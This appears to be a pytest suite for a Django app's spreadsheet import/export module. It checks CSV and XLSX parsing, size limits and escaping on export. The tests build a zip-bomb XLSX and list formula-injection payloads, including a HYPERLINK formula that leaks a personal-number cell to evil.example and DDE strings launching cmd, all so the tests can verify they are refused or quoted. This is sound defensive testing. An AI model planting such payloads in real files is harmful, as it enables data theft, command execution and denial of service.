"""The one spreadsheet reader of every import (``core.tabular``)."""

import csv
import datetime as dt
import io

import pytest
from django.utils import translation
from openpyxl import Workbook

from core.tabular import read_table

COLUMNS = ["name", "municipality", "started_on"]


def _xlsx(*rows) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(list(row))
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def read(content: bytes, filename: str, **kwargs):
    options = {"columns": COLUMNS, "required": ("name",), "max_rows": 10} | kwargs
    return read_table(content, filename, **options)


def test_xlsx_cells_read_as_typed_dates_and_whole_numbers():
    content = _xlsx(
        ["Name", "Municipality", "Started_on"], ["Café AB", 880, dt.datetime(2025, 3, 1)]
    )
    assert read(content, "lista.xlsx") == [
        {"name": "Café AB", "municipality": "880", "started_on": "2025-03-01"}
    ]


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_csv_with_a_bom_and_any_usual_delimiter(delimiter):
    text = delimiter.join(["name", "municipality"]) + "\n" + delimiter.join(["Firma", "0880"])
    assert read(("\ufeff" + text).encode(), "lista.csv") == [
        {"name": "Firma", "municipality": "0880"}
    ]


def test_aliases_map_the_templates_headers():
    content = b"namn;kommun\nFirma;0880\n"
    rows = read(content, "lista.csv", aliases={"namn": "name", "kommun": "municipality"})
    assert rows == [{"name": "Firma", "municipality": "0880"}]


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (b"municipality\n0880\n", "lista.csv", "Missing columns: name"),
        (b"name;shoe_size\nFirma;42\n", "lista.csv", "Unknown column “shoe_size”"),
        (b"\n\n", "lista.csv", "empty"),
        ("name\nÅsa\n".encode("latin-1"), "lista.csv", "UTF-8"),
        (b"not a zip", "lista.xlsx", "XLSX"),
        (b"name\n" + b"x" * 200_000 + b"\n", "lista.csv", "too long"),
    ],
)
def test_a_bad_file_is_a_clear_file_error(content, filename, message):
    with translation.override("en"), pytest.raises(ValueError, match=message):
        read(content, filename)


def test_reading_stops_at_the_row_limit():
    content = ("name\n" + "".join(f"Firma {i}\n" for i in range(11))).encode()
    with pytest.raises(ValueError, match="10"):
        read(content, "lista.csv")
    assert len(read(content, "lista.csv", max_rows=11)) == 11


def test_reading_leaves_the_csv_modules_limits_alone():
    # The history import once lowered csv.field_size_limit for the whole process.
    before = csv.field_size_limit()
    read(b"name\nFirma\n", "lista.csv")
    assert csv.field_size_limit() == before


# --- the bounded reader (issue 20) ----------------------------------------------------------


def _bomb(chars: int) -> bytes:
    """A small XLSX whose one cell is a shared string of ``chars`` characters, built with zipfile
    directly (deflate makes 150 million 'A's a few hundred KB)."""
    import zipfile

    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats'
            '-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
            'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml'
            '.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml'
            '/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2">'
            '<c r="A2" t="s"><v>1</v></c></row></sheetData></worksheet>'
        ),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/sharedStrings.xml", "w") as member:
            member.write(
                b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>name</t></si><si><t>'
            )
            block = b"A" * (1024 * 1024)
            for _ in range(chars // len(block)):
                member.write(block)
            member.write(b"A" * (chars % len(block)))
            member.write(b"</t></si></sst>")
    return out.getvalue()


def test_a_small_xlsx_holding_a_huge_cell_is_refused_before_parsing(monkeypatch):
    import time
    import tracemalloc

    import openpyxl

    content = _bomb(150_000_000)
    assert len(content) < 400_000  # ~150 KB on disk, 150 MB unpacked

    def never(*args, **kwargs):
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    tracemalloc.start()
    began = time.monotonic()
    with translation.override("en"), pytest.raises(ValueError, match="unpacks to more than 30 MB"):
        read(content, "lista.xlsx")
    elapsed = time.monotonic() - began
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 2 and peak < 5 * 1024 * 1024


def test_a_cell_over_the_length_bound_is_refused_while_streaming(settings):
    settings.TABULAR_MAX_CELL_CHARS = 1000
    with translation.override("en"), pytest.raises(ValueError, match="Row 2, column 1: .*too long"):
        read(_bomb(5000), "lista.xlsx")
    content = _xlsx(["name", "municipality"], ["Firma", "x" * 1001])
    with translation.override("en"), pytest.raises(ValueError, match="Row 2, column 2"):
        read(content, "lista.xlsx")
    assert read(_bomb(1000), "lista.xlsx") == [{"name": "A" * 1000}]


def test_csv_lines_and_cells_are_bounded(settings):
    settings.TABULAR_MAX_LINE_CHARS = 500
    settings.TABULAR_MAX_CELL_CHARS = 100
    with translation.override("en"), pytest.raises(ValueError, match="Line 2 is too long"):
        read(b"name\n" + b"x;" * 300 + b"\n", "lista.csv")
    with translation.override("en"), pytest.raises(ValueError, match="Row 3, column 2"):
        read(b"name;municipality\nA;B\nC;" + b"y" * 101 + b"\n", "lista.csv")
    settings.TABULAR_MAX_BYTES = 512 * 1024
    with translation.override("en"), pytest.raises(ValueError, match="larger than 0.5 MB"):
        read(b"name\n" + b"x\n" * 300_000, "lista.csv")


def test_check_upload_refuses_on_the_upload_itself():
    from django.core.files.uploadedfile import SimpleUploadedFile

    from core.tabular import check_upload

    with translation.override("en"):
        with pytest.raises(ValueError, match="unpacks"):
            check_upload(SimpleUploadedFile("lista.xlsx", _bomb(40_000_000)))
        with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
            check_upload(SimpleUploadedFile("lista.exe", b"x"))
        with pytest.raises(ValueError, match="XLSX"):
            check_upload(SimpleUploadedFile("lista.xlsx", b"not a zip"))
    fine = SimpleUploadedFile("lista.xlsx", _xlsx(["name"], ["Firma"]))
    check_upload(fine)
    assert fine.tell() == 0


# --- the one writer (issue 19) --------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?pnr="&B2&"x";"Klicka")',
    "+46 701 23 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB",
    "\rCR",
]


def _export():
    from core.tabular import Export, Filter, Sheet, Styled

    sheet = Sheet("Lista", [["Namn", "Tal", "Andel"]])
    for value in HOSTILE:
        sheet.append([value, -3, Styled(-12, number_format='0" %"', text="-12 %")])
    sheet.append(["Vanlig text", 2.5, Styled(None)])
    filters = [Filter("Period", "2026-01-01 – 2026-03-31"), Filter("Kommun", "Växjö")]
    return Export("brygga-lista", "Lista", filters, [sheet])


def test_csv_escapes_formula_cells_but_keeps_numbers():
    from core.tabular import write_csv

    body = write_csv(_export()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))
    assert rows[0] == ["Lista · Period: 2026-01-01 – 2026-03-31 · Kommun: Växjö"]
    assert rows[1] == [] and rows[2] == ["Namn", "Tal", "Andel"]
    assert [r[0] for r in rows[3:9]] == ["'" + v for v in HOSTILE]
    assert all(r[1:] == ["-3", "-12 %"] for r in rows[3:9])
    assert rows[9] == ["Vanlig text", "2.5", ""]


def test_xlsx_writes_formula_cells_as_quoted_text_and_numbers_as_numbers():
    from openpyxl import load_workbook

    from core.tabular import write_xlsx

    sheet = load_workbook(io.BytesIO(write_xlsx(_export()))).active
    assert sheet["A1"].value == "Lista · Period: 2026-01-01 – 2026-03-31 · Kommun: Växjö"
    cells = [sheet.cell(row=r, column=1) for r in range(4, 10)]
    # XML turns a CR into a line feed; what matters is that the cell is text, quoted.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert sheet["B4"].value == -3 and sheet["B4"].data_type == "n"
    assert sheet["C4"].value == -12 and sheet["C4"].number_format == '0" %"'


def test_the_file_name_names_the_filters():
    from core.tabular import export_response

    response = export_response(_export(), "csv")
    assert response["Content-Disposition"] == (
        'attachment; filename="brygga-lista_2026-01-01-2026-03-31_vaxjo.csv"'
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
